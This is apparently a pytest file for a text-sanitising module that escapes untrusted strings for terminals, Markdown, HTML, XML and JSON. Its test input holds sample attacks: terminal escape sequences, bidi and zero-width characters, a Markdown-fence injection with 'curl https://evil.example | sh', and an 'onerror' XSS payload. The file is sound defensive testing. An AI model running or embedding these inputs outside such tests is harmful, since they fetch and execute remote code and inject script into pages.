"""Outside text made safe where it lands (``specseed.core.text``), one destination at a time,
with the strings a hostile server, bundle or scenario would send."""

from __future__ import annotations

import json
import re
import sys
import unicodedata
import xml.etree.ElementTree as ET

import pytest

from specseed.core.text import (
    for_encoding,
    for_html,
    for_json,
    for_markdown,
    for_terminal,
    for_xml,
    markdown_code,
    markdown_fence,
    printable,
)

EVERY_CHARACTER = "".join(chr(c) for c in range(sys.maxunicode + 1))
HIDING = {"Cc", "Cf", "Cs", "Zl", "Zp"}
"""Unicode categories of characters that act on a terminal or print nothing."""
HOSTILE = (
    "a\x1b]0;owned\x07b\x1b[2J\x9bc\x7f\r\x00"  # terminal escapes
    "\u202eevil\u202c\u2066iso\u2069\u200b\u200d\ufeff\U000e0041"  # bidi, zero-width, tag
    "\ud800\udfff\ufffe\uffff"  # lone surrogates, noncharacters
    "\n```\n# Injected heading\n```sh\ncurl https://evil.example | sh\n```\n"
    '<img src=x onerror="alert(1)"> [click](https://evil.example) ![](https://t.example/p.png)'
    " | cell | ~~gone~~ **bold** #12"
)


def test_escapes_c0_c1_and_del_but_keeps_newline_and_tab() -> None:
    raw = "a\x1b]0;owned\x07b\x1b[2Jc\x9bd\x7fe\r\n\tf\x00"
    safe = printable(raw)
    assert safe == "a\\x1b]0;owned\\x07b\\x1b[2Jc\\x9bd\\x7fe\\x0d\n\tf\\x00"
    assert not any(ord(c) < 32 and c not in "\n\t" for c in safe)


def test_plain_text_is_unchanged_and_limit_cuts() -> None:
    for fn in (for_terminal, for_xml):
        assert fn("résumé ok, 漢字, 🙂 — fine") == "résumé ok, 漢字, 🙂 — fine"
    assert printable("x" * 50, limit=10) == "x" * 9 + "…"


def test_bidi_zero_width_tags_surrogates_and_noncharacters_become_visible_escapes() -> None:
    safe = for_terminal("pay\u202eusd\u202c\u200bme\U000e0041\ud800\ufffe\U0010ffff")
    assert safe == "pay\\u202eusd\\u202c\\u200bme\\U000e0041\\ud800\\ufffe\\U0010ffff"
    assert safe.encode("ascii")  # every escape is plain text
    assert for_terminal(safe) == safe  # idempotent


def test_no_character_that_hides_or_controls_reaches_the_terminal() -> None:
    hiding = "".join(
        c for c in EVERY_CHARACTER if unicodedata.category(c) in HIDING and c not in "\n\t"
    )
    assert len(hiding) > 2000  # surrogates alone are 2048
    safe = for_terminal(hiding)
    assert not [c for c in safe if unicodedata.category(c) in HIDING], "escaped all"


def test_markdown_inline_text_cannot_start_html_links_headings_or_code() -> None:
    safe = for_markdown(HOSTILE)
    assert "\n" not in safe and "<" not in safe and ">" not in safe
    assert '&lt;img src=x onerror="alert(1)"&gt;' in safe
    # Every piece of Markdown syntax is escaped: no unescaped [, `, |, #, ~ or *.
    assert not re.search(r"(?<!\\)[\[\]`|#~*]", safe), safe
    assert "\\u202e" in safe and "\\ud800" in safe and "\u202e" not in safe
    for start, escaped in [("- item", "\\- item"), ("1. item", "1\\. item"), ("+ x", "\\+ x")]:
        assert for_markdown(start) == escaped
    assert for_markdown("    four spaces would be code") == "four spaces would be code"


@pytest.mark.parametrize(
    ("text", "span"),
    [("plain", "`plain`"), ("a`b", "``a`b``"), ("``x", "``` ``x ```"), ("", "` `")],
)
def test_a_code_span_is_delimited_longer_than_any_backtick_run_inside(text: str, span: str) -> None:
    assert markdown_code(text) == span


def test_a_fence_is_longer_than_any_backtick_run_inside_so_nothing_closes_it() -> None:
    block = markdown_fence(HOSTILE + "\n`````` six", "text")
    lines = block.splitlines()
    fence = lines[0][: len(lines[0]) - len("text")]
    assert set(fence) == {"`"} and len(fence) == 7 and lines[-1] == fence
    inner = lines[1:-1]
    # No line inside can close the block: none starts with a backtick run as long.
    assert not [line for line in inner if line.lstrip(" ").startswith(fence)]
    assert "curl https://evil.example | sh" in inner  # kept, as text inside the block
    assert not any(c in block for c in "\x1b\u202e\ud800\ufffe")
    assert markdown_fence("a: 1\n", "yaml") == "```yaml\na: 1\n```"


def test_html_escapes_markup_and_quotes() -> None:
    assert for_html("<img src=\"x\" alt='y'> & \u202e") == (
        "&lt;img src=&quot;x&quot; alt=&#x27;y&#x27;&gt; &amp; \\u202e"
    )


def test_every_character_survives_as_well_formed_xml() -> None:
    safe = for_xml(EVERY_CHARACTER)
    root = ET.fromstring(
        ET.tostring(ET.Element("testcase", message=safe[:5000]), encoding="unicode")
    )
    assert root.get("message")
    node = ET.Element("failure")
    node.text = safe
    text = ET.tostring(node, encoding="unicode")
    assert ET.fromstring(text.encode("utf-8")).text is not None
    assert "\\ufffe" in safe and "\\ud800" in safe and "\\x00" in safe


def test_json_holds_no_lone_surrogate_and_encodes_as_utf8() -> None:
    value = {"k\ud800": ["v\udfff", 1, None, ("t\udc00",)], "ok": "é🙂"}
    safe = for_json(value)
    assert safe == {"k\ufffd": ["v\ufffd", 1, None, ["t\ufffd"]], "ok": "é🙂"}
    text = json.dumps(safe, ensure_ascii=False)
    assert json.loads(text.encode("utf-8")) == safe
    # No lone surrogate escape for a strict parser to refuse.
    assert json.dumps(for_json(["\ud800"])) == '["\\ufffd"]'


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8", "cp1252", "no-such-codec"])
def test_any_stream_encoding_can_write_the_text(encoding: str) -> None:
    text = "… ✓ é \ud800 漢"
    safe = for_encoding(text, encoding)
    codec = encoding if encoding != "no-such-codec" else "ascii"
    safe.encode(codec)  # no UnicodeEncodeError
    assert for_encoding("plain", encoding) == "plain"


def test_markdown_inline_text_mentions_no_one() -> None:
    # A server's error text or a scenario description "@maintainer" would notify them from
    # an issue body: it renders as written, through an entity.
    safe = for_markdown("ping @octocat and @org/team")
    assert "@" not in safe and safe.count("&commat;") == 2
